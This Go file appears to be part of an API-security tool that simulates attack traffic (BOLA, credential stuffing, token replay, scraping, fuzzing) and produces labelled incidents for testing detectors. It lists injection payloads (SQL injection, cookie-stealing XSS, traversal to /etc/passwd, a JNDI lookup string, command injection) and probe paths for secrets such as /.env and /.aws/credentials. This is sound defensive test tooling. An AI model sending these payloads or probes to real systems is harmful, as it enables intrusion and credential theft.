package world

import (
	"fmt"
	"math"
	"math/rand/v2"
	"net/netip"
	"net/url"
	"sort"
	"strings"
	"time"

	"github.com/apiscope/apiscope/models"
	"github.com/apiscope/apiscope/pkg/simulate/scenario"
	"github.com/apiscope/apiscope/pkg/simulate/truth"
)

// attackDefaults are the per-type parameters used when a scenario leaves them unset.
var attackDefaults = map[string]struct {
	calls, rate, sources scenario.Range
	insider              float64
	kinds                []string
}{
	scenario.AttackBOLA:           {scenario.Range{100, 400}, scenario.Range{0.5, 3}, scenario.Range{1, 1}, 0.5, []string{models.KindBOLAEnumeration}},
	scenario.AttackScraping:       {scenario.Range{600, 1500}, scenario.Range{2, 6}, scenario.Range{1, 1}, 0.3, []string{models.KindRateSpike, models.KindDataVolume, models.KindSequenceAnomaly}},
	scenario.AttackStuffing:       {scenario.Range{300, 900}, scenario.Range{2, 8}, scenario.Range{1, 1}, 0, []string{models.KindAuthFailures}},
	scenario.AttackStuffingSpread: {scenario.Range{200, 500}, scenario.Range{0.1, 0.6}, scenario.Range{30, 100}, 0, []string{models.KindAuthFailures}},
	scenario.AttackBFLA:           {scenario.Range{8, 30}, scenario.Range{0.02, 0.3}, scenario.Range{1, 1}, 0.5, []string{models.KindNewEndpointForClient, models.KindSequenceAnomaly}},
	scenario.AttackScopeDrift:     {scenario.Range{60, 160}, scenario.Range{0.3, 2}, scenario.Range{1, 1}, 1, []string{models.KindScopeDrift, models.KindNewEndpointForClient}},
	scenario.AttackFlowAbuse:      {scenario.Range{80, 300}, scenario.Range{2, 8}, scenario.Range{1, 1}, 0.5, []string{models.KindSequenceAnomaly, models.KindRateSpike}},
	scenario.AttackExfiltration:   {scenario.Range{3, 10}, scenario.Range{0.01, 0.1}, scenario.Range{1, 1}, 0.7, []string{models.KindDataVolume}},
	scenario.AttackTokenReplay:    {scenario.Range{20, 80}, scenario.Range{0.05, 0.5}, scenario.Range{1, 1}, 0, []string{models.KindCredentialShared}},
	scenario.AttackRetryStorm:     {scenario.Range{300, 1200}, scenario.Range{5, 15}, scenario.Range{1, 1}, 1, []string{models.KindErrorBurst, models.KindRateSpike}},
	scenario.AttackInjection:      {scenario.Range{30, 120}, scenario.Range{0.3, 2}, scenario.Range{1, 1}, 0.3, []string{models.KindInjectionProbe}},
	scenario.AttackFuzzing:        {scenario.Range{150, 600}, scenario.Range{3, 12}, scenario.Range{1, 1}, 0, []string{models.KindErrorBurst, models.KindShadowEndpoint}},
	scenario.AttackShadow:         {scenario.Range{8, 40}, scenario.Range{0.01, 0.2}, scenario.Range{1, 1}, 0.3, []string{models.KindShadowEndpoint, models.KindNewEndpointForClient}},
}

// attack is the actor of one incident.
type attack struct {
	act     actor
	id      string
	typ     string
	rng     *rand.Rand
	c       *Client
	insider bool
	victim  *benign
	// owner is the token's owner, kept active while its token is replayed.
	owner *benign
	srcs  []netip.Addr
	uas   []string
	eps   []*Endpoint
	svc   *Service
	start int64
	total int
	rate  float64
	slow  bool
	pool  uint32
	size  scenario.Range
	// progress
	n, cursor, phase int
	first, last      int64
	ips              map[netip.Addr]bool
	params           map[string]any
	// stolen is the replayed bearer token, fixed at the first call.
	stolen string
}

func (w *World) buildAttacks() error {
	used := map[*Client]bool{}
	seq := 0
	for i := range w.sc.Attacks {
		spec := &w.sc.Attacks[i]
		count := int(math.Round(float64(spec.Count) * w.scale.Attacks))
		if count < 1 {
			count = 1
		}
		for k := 0; k < count; k++ {
			seq++
			a, err := w.newAttack(spec, seq, used)
			if err != nil {
				return fmt.Errorf("attack %d (%s): %w", i, spec.Type, err)
			}
			w.attacks = append(w.attacks, a)
		}
	}
	return nil
}

func (w *World) newAttack(spec *scenario.Attack, seq int, used map[*Client]bool) (*attack, error) {
	d := attackDefaults[spec.Type]
	a := &attack{
		id:     fmt.Sprintf("inc-%04d", seq),
		typ:    spec.Type,
		rng:    newRNG(w.seed, fmt.Sprintf("attack/%d", seq)),
		ips:    map[netip.Addr]bool{},
		params: map[string]any{},
		size:   spec.Size,
	}
	calls, rate, sources := spec.Calls, spec.Rate, spec.Sources
	if calls.Zero() {
		calls = d.calls
	}
	if rate.Zero() {
		rate = d.rate
	}
	if sources.Zero() {
		sources = d.sources
	}
	a.total = int(math.Round(float64(intIn(a.rng, calls)) * w.scale.AttackCalls))
	if a.total < 3 {
		a.total = 3
	}
	a.rate = between(a.rng, rate)
	a.slow = a.rate < 0.2
	a.start = w.at(between(a.rng, spec.At))
	a.params["calls_planned"] = a.total
	a.params["rate_per_s"] = math.Round(a.rate*1000) / 1000
	if err := w.attackEndpoints(a, spec); err != nil {
		return nil, err
	}
	insider := d.insider
	if spec.Insider != nil {
		insider = *spec.Insider
	}
	switch a.typ {
	case scenario.AttackStuffing, scenario.AttackStuffingSpread, scenario.AttackFuzzing:
		n := intIn(a.rng, sources)
		if n < 1 {
			n = 1
		}
		for i := 0; i < n; i++ {
			a.srcs = append(a.srcs, w.nextAttackerIP())
			a.uas = append(a.uas, attackerUAs[a.rng.IntN(len(attackerUAs))])
		}
		a.c = w.attackerClient(a, scenario.KindUser)
		a.params["sources"] = n
	case scenario.AttackTokenReplay:
		v := w.pickClient(a.rng, spec.Client, []string{scenario.KindUser}, used, true)
		if v == nil {
			return nil, fmt.Errorf("no user client to steal a token from")
		}
		a.victim = v
		a.owner = v
		a.c = v.c
		a.srcs = []netip.Addr{w.nextAttackerIP()}
		ua := attackerUAs[a.rng.IntN(len(attackerUAs))]
		for ua == v.c.UA {
			ua = attackerUAs[a.rng.IntN(len(attackerUAs))]
		}
		a.uas = []string{ua}
		a.insider = false
	default:
		kinds := []string{scenario.KindUser}
		switch a.typ {
		case scenario.AttackScopeDrift:
			kinds = []string{scenario.KindAgent}
		case scenario.AttackRetryStorm:
			kinds = []string{scenario.KindPartner}
		}
		if a.rng.Float64() < insider {
			if b := w.pickClient(a.rng, spec.Client, kinds, used, false); b != nil {
				a.c = b.c
				a.insider = true
				b.c.Benign = false
				a.pool = b.pool
				a.srcs = []netip.Addr{b.c.IPs[0]}
				a.uas = []string{b.c.UA}
			}
		}
		if a.c == nil {
			a.c = w.attackerClient(a, kinds[0])
			a.srcs = []netip.Addr{a.c.IPs[0]}
			a.uas = []string{a.c.UA}
		}
	}
	if a.pool == 0 {
		a.pool = uint32(1<<31) + uint32(seq)
	}
	a.act.fire = a.fire
	a.act.next = a.start
	return a, nil
}

// pickClient chooses a client of group (or of one of kinds) not yet used by an attack.
// Victims stay benign; hijacked clients do not.
func (w *World) pickClient(rng *rand.Rand, group string, kinds []string, used map[*Client]bool, victim bool) *benign {
	var cands []*benign
	for _, b := range w.benign {
		c := b.c
		if used[c] || c.Late || !c.Benign {
			continue
		}
		if group != "" && c.Group != group {
			continue
		}
		if group == "" {
			ok := false
			for _, k := range kinds {
				ok = ok || c.Kind == k
			}
			if !ok {
				continue
			}
		}
		if victim && c.Heavy {
			continue
		}
		cands = append(cands, b)
	}
	if len(cands) == 0 {
		return nil
	}
	b := cands[rng.IntN(len(cands))]
	used[b.c] = true
	return b
}

// attackerClient creates a fresh account for an attack: a new principal that signed up
// (it owns a few objects), a new address and tooling user agent.
func (w *World) attackerClient(a *attack, kind string) *Client {
	var ck *scenario.ClientKind
	for i := range w.sc.Clients {
		if w.sc.Clients[i].Kind == kind {
			ck = &w.sc.Clients[i]
			break
		}
	}
	if ck == nil {
		ck = &w.sc.Clients[0]
	}
	c := w.newClient(ck, 0, a.rng)
	c.ID = "attacker-" + a.id[4:]
	c.Benign = false
	c.Principal = w.userPrincipal(c.Index)
	if c.Kind == scenario.KindAgent {
		c.Actor = "agent-" + c.ID
	}
	if a.rng.IntN(2) == 0 {
		c.IPs = []netip.Addr{w.nextAttackerIP()}
	}
	c.UA = attackerUAs[a.rng.IntN(len(attackerUAs))]
	c.closeConns = a.rng.IntN(2) == 0
	// Its own credential, derived from its own id (newClient derived one from the id of
	// the kind's first client), and only what that credential can carry in the truth.
	c.APIKey, c.secret = "", ""
	c.setCredential(w.seed)
	return c
}

func (w *World) attackEndpoints(a *attack, spec *scenario.Attack) error {
	for _, n := range spec.Endpoints {
		a.eps = append(a.eps, w.eps[n])
	}
	if spec.Service != "" {
		for _, sv := range w.services {
			if sv.Name == spec.Service {
				a.svc = sv
			}
		}
	}
	if a.svc == nil {
		a.svc = w.services[0]
	}
	if len(a.eps) > 0 || a.typ == scenario.AttackFuzzing {
		return nil
	}
	var all []*Endpoint
	for _, sv := range w.services {
		all = append(all, sv.Endpoints...)
	}
	pick := func(ok func(*Endpoint) bool) {
		for _, ep := range all {
			if ok(ep) {
				a.eps = append(a.eps, ep)
			}
		}
	}
	switch a.typ {
	case scenario.AttackBOLA:
		pick(func(e *Endpoint) bool { return e.ownedParam && e.Method == "GET" && e.spec.Vulnerable })
		if len(a.eps) == 0 {
			pick(func(e *Endpoint) bool { return e.ownedParam && e.Method == "GET" })
		}
	case scenario.AttackScraping:
		pick(func(e *Endpoint) bool {
			return e.Method == "GET" && !e.ownedParam && e.spec.Role == "user" && !e.spec.Shadow
		})
	case scenario.AttackStuffing, scenario.AttackStuffingSpread:
		pick(func(e *Endpoint) bool { return e.spec.Login })
	case scenario.AttackBFLA:
		pick(func(e *Endpoint) bool { return e.spec.Role == "admin" })
	case scenario.AttackScopeDrift:
		pick(func(e *Endpoint) bool {
			return !e.spec.Shadow && !e.spec.Login && e.spec.Role != "partner" && e.spec.Role != "internal"
		})
		sort.SliceStable(a.eps, func(i, j int) bool { return a.eps[i].spec.Role != "admin" && a.eps[j].spec.Role == "admin" })
		if len(a.eps) > 8 {
			// The last steps reach for admin functions.
			a.eps = append(a.eps[:5], a.eps[len(a.eps)-3:]...)
		}
	case scenario.AttackFlowAbuse:
		pick(func(e *Endpoint) bool {
			return e.Method == "POST" && e.spec.Role == "user" && !e.spec.Login && !e.spec.Shadow
		})
	case scenario.AttackExfiltration:
		pick(func(e *Endpoint) bool { return e.Method == "GET" && e.spec.Role == "user" && !e.spec.Shadow })
		sort.SliceStable(a.eps, func(i, j int) bool { return a.eps[i].spec.Size[1] > a.eps[j].spec.Size[1] })
		if len(a.eps) > 2 {
			a.eps = a.eps[:2]
		}
	case scenario.AttackTokenReplay:
		pick(func(e *Endpoint) bool {
			return e.spec.Role == "user" && !e.spec.Login && !e.spec.Shadow && e.spec.Auth != "none"
		})
	case scenario.AttackRetryStorm:
		pick(func(e *Endpoint) bool { return e.spec.Role == "partner" && e.Method != "GET" })
		if len(a.eps) == 0 {
			pick(func(e *Endpoint) bool { return e.spec.Role == "partner" })
		}
	case scenario.AttackInjection:
		pick(func(e *Endpoint) bool { return len(e.query) > 0 && e.Method == "GET" && !e.spec.Shadow })
	case scenario.AttackShadow:
		pick(func(e *Endpoint) bool { return e.spec.Shadow })
	}
	if len(a.eps) == 0 {
		return fmt.Errorf("no endpoint in the scenario fits; list some under endpoints")
	}
	return nil
}

func (a *attack) gap() int64 {
	mean := 1 / a.rate
	if a.slow {
		return expUS(a.rng, mean) + usPerSec/10
	}
	// Tools pace themselves evenly: little jitter.
	return int64(mean * (0.8 + 0.4*a.rng.Float64()) * float64(usPerSec))
}

var injectionPayloads = []string{
	"' OR '1'='1", "1' OR 1=1--", "1 UNION SELECT username,password FROM users--", "'; DROP TABLE orders;--",
	"<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "../../../../etc/passwd",
	"..%2f..%2f..%2fetc%2fshadow", "{{7*7}}", "${jndi:ldap://198.51.100.7/a}", "; cat /etc/passwd", "1 AND SLEEP(5)",
	"admin'--", "%00", "$(id)", "<svg/onload=alert(1)>",
}

var fuzzPaths = []string{
	"/.env", "/.git/config", "/admin", "/admin/login", "/api/v1/debug", "/actuator/env", "/actuator/heapdump",
	"/swagger.json", "/openapi.yaml", "/v2/api-docs", "/server-status", "/wp-login.php", "/backup.zip",
	"/config.json", "/api/internal/users", "/graphql", "/console", "/phpinfo.php", "/.aws/credentials",
	"/api/v1/users/export", "/metrics", "/debug/pprof/", "/api/v3/orders", "/internal/health", "/old/api/users",
}

func (a *attack) fire(w *World, t int64) bool {
	if a.n >= a.total {
		a.act.next = math.MaxInt64
		return false
	}
	if a.n == 0 && a.victim != nil {
		// The stolen token is used while its owner is active: pull the owner's next session
		// forward and start a few seconds after it.
		if !a.victim.inSession {
			w.wake(&a.victim.act, t)
			a.act.next = t + 5*usPerSec + a.rng.Int64N(20*usPerSec)
			a.victim = nil
			return false
		}
		a.victim = nil
	}
	if a.c.token == "" && a.c.APIKey == "" {
		w.newToken(a.c, t, a.rng)
	}
	if a.owner != nil && !a.owner.inSession {
		// The owner keeps using the account while the copy of its token is abused.
		w.wake(&a.owner.act, t+a.rng.Int64N(30*usPerSec))
	}
	src := a.srcs[a.rng.IntN(len(a.srcs))]
	next := t + a.gap()
	var call *Call
	switch a.typ {
	case scenario.AttackBOLA:
		ep := a.eps[a.rng.IntN(len(a.eps))]
		o := firstObject(ep)
		if o == nil {
			// An endpoint without an object parameter: plain repeated calls.
			call = w.makeCall(a.c, src, ep, t, a.rng, -1, a.pool)
			break
		}
		if a.n == 0 {
			a.cursor = o.start + a.rng.IntN(w.owners*2+1)
			a.params["first_slot"] = a.cursor
		}
		slot := a.cursor
		if o.ids == "int" {
			a.cursor++
		} else {
			slot = o.start + a.rng.IntN(w.owners*3+1)
		}
		call = w.makeCall(a.c, src, ep, t, a.rng, slot, a.pool)
		w.objectStatus(call, a.c, ep, o, slot, a.rng)
	case scenario.AttackScraping:
		ep := a.eps[a.n%len(a.eps)]
		// A scraper walks ids in the path (/products/1, /products/2); a listing's query
		// parameters keep the values clients send.
		o := firstPathObject(ep)
		slot := -1
		if o != nil {
			if a.cursor == 0 {
				a.cursor = o.start
			}
			slot = a.cursor
			a.cursor++
		}
		call = w.makeCall(a.c, src, ep, t, a.rng, slot, a.pool)
		if o != nil && !w.objectExists(o, slot) {
			call.Status = 404
			w.sizeAndLatency(call, a.rng)
		}
	case scenario.AttackStuffing, scenario.AttackStuffingSpread:
		ep := a.eps[0]
		i := a.rng.IntN(len(a.srcs))
		src = a.srcs[i]
		call = w.makeCall(a.c, src, ep, t, a.rng, -1, a.pool+uint32(i)<<16)
		w.bodyBuf = appendLogin(w.bodyBuf[:0], a.rng, "")
		call.Body = w.bodyBuf
		call.UA = a.uas[i]
		call.Headers = nil
		call.Status = 401
		if a.rng.IntN(40) == 0 {
			call.Status = 200
		}
		w.sizeAndLatency(call, a.rng)
	case scenario.AttackBFLA:
		ep := a.eps[a.rng.IntN(len(a.eps))]
		call = w.makeCall(a.c, src, ep, t, a.rng, -1, a.pool)
	case scenario.AttackScopeDrift:
		// Each stage adds the next endpoint to what the agent calls.
		stage := 1 + a.n*len(a.eps)/a.total
		if stage > len(a.eps) {
			stage = len(a.eps)
		}
		i := stage - 1
		if a.rng.IntN(2) == 0 {
			i = a.rng.IntN(stage)
		}
		call = w.makeCall(a.c, src, a.eps[i], t, a.rng, -1, a.pool)
		a.params["stages"] = len(a.eps)
		if a.phase++; a.phase >= 5+a.rng.IntN(10) {
			a.phase = 0
			next = t + expUS(a.rng, 300)
		} else {
			next = t + 200*usPerMS + a.rng.Int64N(800*usPerMS)
		}
	case scenario.AttackFlowAbuse:
		// Steps skipped (straight to the last), looped (the middle one again and again)
		// or the whole flow repeated, at machine speed.
		last := len(a.eps) - 1
		var ep *Endpoint
		switch {
		case a.phase == 0 && a.rng.IntN(3) == 0:
			ep = a.eps[last]
		case a.phase < 4+a.cursor%5 && last > 0:
			ep = a.eps[min(a.phase, last-1)]
			if a.phase > 0 && last > 1 {
				ep = a.eps[1]
			}
			a.phase++
		default:
			ep = a.eps[last]
			a.phase = 0
			a.cursor++
		}
		if ep == a.eps[last] {
			a.phase = 0
		}
		call = w.makeCall(a.c, src, ep, t, a.rng, -1, a.pool)
		next = t + 50*usPerMS + a.rng.Int64N(250*usPerMS)
		if a.slow {
			next = t + a.gap()
		}
	case scenario.AttackExfiltration:
		ep := a.eps[a.rng.IntN(len(a.eps))]
		call = w.makeCall(a.c, src, ep, t, a.rng, -1, a.pool)
		call.URI = appendParam(call.URI, "limit", "50000")
		w.uriBuf = call.URI
		call.Status = ep.status.success()
		size := a.size
		if size.Zero() {
			size = scenario.Range{300_000, 1_500_000}
		}
		call.RespSize = int(logUniform(a.rng, size))
		call.Chunked = a.rng.IntN(2) == 0
		call.LatencyUS = 50*usPerMS + int64(call.RespSize)/20
		a.params["size_range"] = []float64{size[0], size[1]}
	case scenario.AttackTokenReplay:
		ep := a.eps[a.rng.IntN(len(a.eps))]
		call = w.makeCall(a.c, src, ep, t, a.rng, -1, a.pool)
		if a.stolen == "" {
			a.stolen = call.AuthValue
		}
		if call.AuthHeader != "" {
			call.AuthValue = a.stolen
		}
		call.UA = a.uas[0]
		call.Headers = nil
		call.RTTUS = 60 * usPerMS
	case scenario.AttackRetryStorm:
		ep := a.eps[0]
		call = w.makeCall(a.c, src, ep, t, a.rng, -1, a.pool)
		switch r := a.rng.IntN(20); {
		case r < 12:
			call.Status = 500
		case r < 17:
			call.Status = 503
		default:
			call.Status = 429
		}
		w.sizeAndLatency(call, a.rng)
	case scenario.AttackInjection:
		ep := a.eps[a.rng.IntN(len(a.eps))]
		call = w.makeCall(a.c, src, ep, t, a.rng, -1, a.pool)
		key := "q"
		if len(ep.query) > 0 {
			key = ep.query[a.rng.IntN(len(ep.query))].key
		}
		payload := injectionPayloads[a.rng.IntN(len(injectionPayloads))]
		base := call.URI
		if i := indexByte(base, '?'); i >= 0 {
			base = base[:i]
		}
		call.URI = appendParam(base, key, url.QueryEscape(payload))
		w.uriBuf = call.URI
		switch r := a.rng.IntN(20); {
		case r < 10:
			call.Status = 400
		case r < 13:
			call.Status = 500
		default:
			call.Status = ep.status.success()
		}
		w.sizeAndLatency(call, a.rng)
	case scenario.AttackFuzzing:
		i := a.rng.IntN(len(a.srcs))
		src = a.srcs[i]
		ep := a.svc.Endpoints[0]
		call = w.makeCall(a.c, src, ep, t, a.rng, -1, a.pool)
		call.Endpoint = nil
		call.Method = "GET"
		call.Body = nil
		call.AuthHeader, call.AuthValue, call.Principal, call.Actor = "", "", "", ""
		call.UA = a.uas[i]
		call.Headers = nil
		p := fuzzPaths[a.rng.IntN(len(fuzzPaths))]
		if a.rng.IntN(2) == 0 {
			p = "/" + words[a.rng.IntN(len(words))] + "/" + words[a.rng.IntN(len(words))]
		}
		w.uriBuf = append(w.uriBuf[:0], p...)
		call.URI = w.uriBuf
		switch r := a.rng.IntN(20); {
		case r < 17:
			call.Status = 404
		case r < 19:
			call.Status = 403
		default:
			call.Status = 401
		}
		w.sizeAndLatency(call, a.rng)
	case scenario.AttackShadow:
		ep := a.eps[a.rng.IntN(len(a.eps))]
		call = w.makeCall(a.c, src, ep, t, a.rng, -1, a.pool)
	}
	call.Incident = a.id
	if a.typ != scenario.AttackStuffing && a.typ != scenario.AttackStuffingSpread && a.typ != scenario.AttackFuzzing && a.typ != scenario.AttackTokenReplay {
		call.UA = a.uas[0]
	}
	if a.n == 0 {
		a.first = t
	}
	a.last = t
	a.n++
	a.ips[call.Src] = true
	if d := callDuration(call); next < t+d {
		next = t + d
	}
	a.act.next = next
	return true
}

// objectStatus sets the status of a call on object slot: the caller's own objects are
// fine; others are served by vulnerable endpoints and refused by sound ones.
func (w *World) objectStatus(call *Call, c *Client, ep *Endpoint, o *Object, slot int, rng *rand.Rand) {
	own := o.owned && slot >= o.start && (slot-o.start)%w.owners == c.Index && (slot-o.start)/w.owners < c.owns(o)
	switch {
	case own:
		return
	case !w.objectExists(o, slot):
		call.Status = 404
	case ep.spec.Vulnerable:
		call.Status = ep.status.success()
	default:
		call.Status = 403
	}
	w.sizeAndLatency(call, rng)
}

// firstObject is the kind of the first object parameter of ep: in its path, else in its
// query (buildURI puts an override there).
func firstObject(ep *Endpoint) *Object {
	if o := firstPathObject(ep); o != nil {
		return o
	}
	for i := range ep.query {
		if ep.query[i].obj != nil {
			return ep.query[i].obj
		}
	}
	return nil
}

// firstPathObject is the kind of the first object parameter in ep's path.
func firstPathObject(ep *Endpoint) *Object {
	for _, s := range ep.segs {
		if s.obj != nil {
			return s.obj
		}
	}
	return nil
}

func indexByte(b []byte, c byte) int {
	for i, x := range b {
		if x == c {
			return i
		}
	}
	return -1
}

func appendParam(uri []byte, k, v string) []byte {
	if indexByte(uri, '?') >= 0 {
		uri = append(uri, '&')
	} else {
		uri = append(uri, '?')
	}
	uri = append(uri, k...)
	uri = append(uri, '=')
	return append(uri, v...)
}

func (a *attack) incident() truth.Incident {
	inc := truth.Incident{
		ID:      a.id,
		Type:    a.typ,
		Kinds:   attackDefaults[a.typ].kinds,
		Start:   time.UnixMicro(a.first).UTC(),
		End:     time.UnixMicro(a.last).UTC(),
		Clients: []string{a.c.ID},
		Calls:   a.n,
		Insider: a.insider,
		Params:  a.params,
	}
	principal := a.c.Principal
	switch a.typ {
	case scenario.AttackStuffing, scenario.AttackStuffingSpread, scenario.AttackFuzzing:
		principal = ""
		inc.Clients = []string{}
	}
	if a.c.APIKey != "" {
		principal = ""
	}
	inc.Principals = []string{}
	if principal != "" {
		inc.Principals = append(inc.Principals, principal)
		if a.c.Actor != "" && a.typ != scenario.AttackStuffing {
			inc.Actors = []string{a.c.Actor}
		}
	}
	var ips []netip.Addr
	for ip := range a.ips {
		ips = append(ips, ip)
	}
	sort.Slice(ips, func(i, j int) bool { return ips[i].Less(ips[j]) })
	for _, ip := range ips {
		inc.IPs = append(inc.IPs, ip.String())
	}
	var names []string
	for _, ep := range a.eps {
		names = append(names, ep.Method+" "+ep.Template)
	}
	if len(names) > 0 {
		inc.Params["endpoints"] = names
	}
	who := "a new account " + a.c.ID
	if a.insider {
		who = "existing client " + a.c.ID
	}
	span := time.Duration(a.last-a.first) * time.Microsecond
	switch a.typ {
	case scenario.AttackBOLA:
		inc.Description = fmt.Sprintf("%s enumerates object ids of other customers on %s: %d calls over %v (%.2f/s)", who, strings.Join(names, ", "), a.n, span.Round(time.Second), a.rate)
	case scenario.AttackScraping:
		inc.Description = fmt.Sprintf("%s scrapes %s page by page and id by id: %d calls over %v", who, strings.Join(names, ", "), a.n, span.Round(time.Second))
	case scenario.AttackStuffing:
		inc.Description = fmt.Sprintf("credential stuffing on %s from one source: %d login attempts over %v, most answered 401", strings.Join(names, ", "), a.n, span.Round(time.Second))
	case scenario.AttackStuffingSpread:
		inc.Description = fmt.Sprintf("distributed credential stuffing on %s from %d sources: %d attempts over %v, a few per source", strings.Join(names, ", "), len(a.ips), a.n, span.Round(time.Second))
	case scenario.AttackBFLA:
		inc.Description = fmt.Sprintf("%s (role %s) calls functions of the admin role: %s, %d calls", who, a.c.Role, strings.Join(names, ", "), a.n)
	case scenario.AttackScopeDrift:
		inc.Description = fmt.Sprintf("agent %s (acting as %s) widens its scope step by step over %d endpoints in %v: %s", a.c.Actor, a.c.Principal, len(a.eps), span.Round(time.Second), strings.Join(names, " -> "))
	case scenario.AttackFlowAbuse:
		inc.Description = fmt.Sprintf("%s abuses the flow %s: steps skipped, looped and repeated at machine speed, %d calls", who, strings.Join(names, " -> "), a.n)
	case scenario.AttackExfiltration:
		inc.Description = fmt.Sprintf("%s pulls oversized responses from %s (limit=50000): %d calls", who, strings.Join(names, ", "), a.n)
	case scenario.AttackTokenReplay:
		inc.Description = fmt.Sprintf("the bearer token of %s (%s) is replayed from a new address and user agent while its owner is active: %d calls", a.c.ID, a.c.Principal, a.n)
	case scenario.AttackRetryStorm:
		inc.Description = fmt.Sprintf("%s retries a failing %s without backoff: %d calls at %.1f/s, 5xx and 429", who, strings.Join(names, ", "), a.n, a.rate)
	case scenario.AttackInjection:
		inc.Description = fmt.Sprintf("%s probes %s with SQL injection, XSS, traversal and template payloads: %d calls", who, strings.Join(names, ", "), a.n)
	case scenario.AttackFuzzing:
		inc.Description = fmt.Sprintf("endpoint fuzzing of %s from %d source(s): %d requests for unknown paths, mostly 404", a.svc.Host, len(a.ips), a.n)
	case scenario.AttackShadow:
		inc.Description = fmt.Sprintf("%s uses undocumented endpoints %s: %d calls", who, strings.Join(names, ", "), a.n)
	}
	return inc
}
